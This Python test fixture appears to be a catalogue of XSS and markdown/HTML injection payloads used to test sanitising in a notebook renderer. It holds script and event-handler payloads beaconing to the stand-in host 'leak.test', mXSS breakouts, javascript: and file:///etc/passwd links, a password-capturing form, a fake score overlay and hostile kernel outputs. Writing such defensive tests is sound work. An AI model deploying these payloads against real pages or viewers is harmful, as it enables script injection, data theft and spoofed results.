"""What a submission may try on the reader of a page; whatever works says its name, to the window or to a server."""

import base64
from typing import Any

LEAK = "http://leak.test"


def shout(name: str) -> str:
    """A script that is noticed inside of the page and outside of it."""
    return f"window.ran=(window.ran||[]).concat('{name}');new Image().src='{LEAK}/{name}'"


def coded(name: str) -> str:
    """The same without quotes and spaces, for attributes."""
    return f"eval(String.fromCharCode({','.join(str(ord(letter)) for letter in shout(name))}))"


def _svg(name: str) -> str:
    return (
        f'<svg xmlns="http://www.w3.org/2000/svg" onload="{coded(name)}"><script>{shout(name)}</script>'
        f'<image href="{LEAK}/{name}"/><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" '
        f'src="{LEAK}/{name}"></iframe></foreignObject></svg>'
    )


def in_base64(text: str) -> str:
    """Text as it stands in a data: address."""
    return base64.b64encode(text.encode()).decode()


# Markdown that works in nbconvert's rendering without a sanitizer: the test that it does shows that the tests can see.
LIVE = {
    "script": f"<script>{shout('script')}</script>",
    "script-mixed-case": f"<ScRiPt >{shout('script-mixed-case')}</sCrIpT>",
    "img-onerror": f"<img src=x onerror={coded('img-onerror')}>",
    "img-onerror-inline": f"text <img src='x' onerror=\"{coded('img-onerror-inline')}\"> text",
    "svg-onload": f"<svg onload={coded('svg-onload')}>",
    "svg-script": f"<svg><script>{shout('svg-script')}</script></svg>",
    "svg-animate": f"<svg><animate onbegin={coded('svg-animate')} attributeName=x dur=1s></svg>",
    "details-toggle": f"<details open ontoggle={coded('details-toggle')}>x</details>",
    "input-autofocus": f"<input autofocus onfocus={coded('input-autofocus')}>",
    "iframe-srcdoc": f"<iframe srcdoc='<img src={LEAK}/iframe-srcdoc>'></iframe>",
    "iframe-src": f"<iframe src={LEAK}/iframe-src></iframe>",
    "object": f"<object data={LEAK}/object></object>",
    "embed": f"<embed src={LEAK}/embed>",
    "link-stylesheet": f"<link rel=stylesheet href={LEAK}/link-stylesheet>",
    "style-import": f"<style>@import '{LEAK}/style-import';</style>",
    "style-background": f"<div style='background:url({LEAK}/style-background);height:9px;width:9px'></div>",
    "video-poster": f"<video poster={LEAK}/video-poster></video>",
    "video-onerror": f"<video><source onerror={coded('video-onerror')}></video>",
    "audio-src": f"<audio src={LEAK}/audio-src preload=auto></audio>",
    "picture": f"<picture><source srcset={LEAK}/picture><img></picture>",
    "image-markdown": f"![a picture]({LEAK}/image-markdown)",
    "image-reference": f"![a picture][1]\n\n[1]: {LEAK}/image-reference",
    "body-onload": f"<body onload={coded('body-onload')}>",
    "mermaid": f"```mermaid\n<img src=x onerror={coded('mermaid')}>\n```",
    "comment-trick": f"<!--> <img src=x onerror={coded('comment-trick')}> -->",
    "math-breakout": f"\\\\[ <img src=x onerror={coded('math-breakout')}> \\\\\\]",
    "html-in-list": f"- a\n- <img src=x onerror={coded('html-in-list')}>",
    "html-in-table": f"| a |\n|---|\n| <img src=x onerror={coded('html-in-table')}> |",
    "table-background": f"<table background={LEAK}/table-background><tr><td>x</td></tr></table>",
    "mxss-mglyph": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror='
    f'{coded("mxss-mglyph")}&gt;"><img src=x onerror={coded("mxss-mglyph")}>',
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={coded("noscript")}>">',
    "template": f"<template><b></b></template><img src=x onerror={coded('template')}>",
}
# Markdown that waits for a click, leads away, or works in some browsers or with some libraries only.
ASLEEP = {
    "link-javascript": f"[press](javascript:{coded('link-javascript')})",
    "link-mixed-case": f"[press](JaVaScRiPt:{coded('link-mixed-case')})",
    "link-entities": f"<a href='&#106;avascript&colon;{coded('link-entities')}'>press</a>",
    "link-tab": f"<a href='java\tscript:{coded('link-tab')}'>press</a>",
    "link-data": f"[press](data:text/html;base64,{in_base64('<script>' + shout('link-data') + '</script>')})",
    "link-vbscript": "[press](vbscript:MsgBox)",
    "link-autolink": f"<javascript:{coded('link-autolink')}>",
    "link-reference": f"[press][2]\n\n[2]: javascript:{coded('link-reference')}",
    "link-file": "[press](file:///etc/passwd)",
    "link-relative": "[press](/logout)",
    "meta-refresh": f"<meta http-equiv=refresh content='0;url={LEAK}/meta-refresh'>",
    "base": f"<base href={LEAK}/>",
    "form": f"<form action={LEAK}/form><input name=password><button formaction=javascript:1>go</button></form>",
    "math-href": f"$\\href{{javascript:{coded('math-href')}}}{{press}}$",
    "math-unicode": "$\\unicode{x3cscript}$ $\\text{<script>window.ran=['math-unicode']</script>}$",
    "math-style": "$\\style{background:url(http://leak.test/math-style)}{x}$",
    "math-deep": "$" + "{" * 9000 + "$",
    "math-macro": "$\\newcommand\\a{\\a\\a}\\a$",
    "mathml-href": f"<math href=javascript:{coded('mathml-href')}><mi xlink:href=javascript:1>press</mi></math>",
    "attachment-missing": "![a picture](attachment:there-is-none.png)",
    "dressed-up": "<div class='panel panel-primary navbar-fixed-top' style='position:fixed;inset:0'>Score: 9 / 9</div>",
    "clobbering": "<a id=test_double name=test_double></a><form id=body name=cookie></form>",
    "form-feed-in-tag": f"<img\x0c/src=x/onerror={coded('form-feed-in-tag')}>",
    "textarea": "</textarea></title></style></script></pre></div></div></main><plaintext>",
    "unclosed": "<!-- <p title='",
    "deep": "<div>" * 3000,
    "long": "[" * 30_000,
    "ansi": "\x1b[31mred\x1b[0m \x1b]8;;http://leak.test/ansi\x07link\x1b]8;;\x07 \u202eturned",
    "template-language": "{{ 7 * 7 }}{% raw %}{{ resources }}",
}
MARKDOWN = LIVE | ASLEEP

ATTACHED = "![a](attachment:a.svg) ![b](attachment:b.html) ![c](attachment:c.png)"
ATTACHMENTS = {
    "a.svg": {"image/svg+xml": in_base64(_svg("attachment-svg"))},
    "b.html": {"text/html": in_base64(f"<script>{shout('attachment-html')}</script>")},
    "c.png": {f'image/png" onerror="{coded("attachment-kind")}': "AAAA"},
}


def outputs() -> list[dict[str, Any]]:
    """Outputs of a code cell, as a hostile kernel may send them."""
    html = [{"text/html": text} for text in MARKDOWN.values()]
    data: list[dict[str, Any]] = [
        *html,
        {"application/javascript": shout("javascript")},
        {"text/javascript": shout("text-javascript")},
        {"text/markdown": f"<img src=x onerror={coded('markdown-output')}>"},
        {"text/vnd.mermaid": f"</pre><img src=x onerror={coded('mermaid-output')}>"},
        {"image/svg+xml": _svg("svg-output")},
        {"image/png": f'AA" onerror="{coded("png-output")}'},
        {"image/jpeg": f"AA' onerror='{coded('jpeg-output')}"},
        {"text/latex": f"$</div><img src=x onerror={coded('latex-output')}>$ $\\href{{javascript:1}}{{x}}$"},
        {"application/vnd.jupyter.widget-view+json": {"model_id": f"</script><script>{shout('widget')}</script>"}},
        {"application/vnd.plotly.v1+json": {"x": f"</script><script>{shout('plotly')}</script>"}},
        {"application/pdf": "JVBERi0="},
        {f"x</div><script>{shout('kind')}</script>": "x"},
    ]
    isolated = {"text/html": {"isolated": True}, "image/png": {"width": '1" onload="1', "alt": '"><script>1</script>'}}
    script = f"<script>{shout('text-output')}</script>\x1b[31m<img src=x onerror={coded('text-output')}>\x1b[0m\r\x08"
    filenames = {"filenames": {"image/png": f'{LEAK}/filename"onerror="{coded("filename")}'}}
    return [
        *({"output_type": "display_data", "data": part, "metadata": {}} for part in data),
        {"output_type": "display_data", "data": {"text/html": LIVE["img-onerror"]}, "metadata": isolated},
        {"output_type": "display_data", "data": {"image/png": "AAAA"}, "metadata": {**isolated, **filenames}},
        {"output_type": "execute_result", "data": {"text/plain": script}, "metadata": {}, "execution_count": 1},
        {"output_type": "stream", "name": "stdout", "text": script},
        {"output_type": "stream", "name": "stderr", "text": script},
        {"output_type": "error", "ename": script, "evalue": script, "traceback": [script, script]},
    ]


# Text in places that show text only: names, reasons, hints, repairs.
TEXTS = (
    f"<script>{shout('text-script')}</script>",
    f'"><img src=x onerror={coded("text-onerror")}>',
    f"'><svg onload={coded('text-svg')}>",
    f"</title></style></script></td></table><iframe src={LEAK}/text-iframe>",
    "{{ 7 * 7 }}{% raw %}",
    "\x1b[31mred\x1b[0m \u202eturned round\x07",
    "$\\href{javascript:1}{x}$ [x](javascript:1)",
    "&lt;b&gt; &amp; ' \"",
)
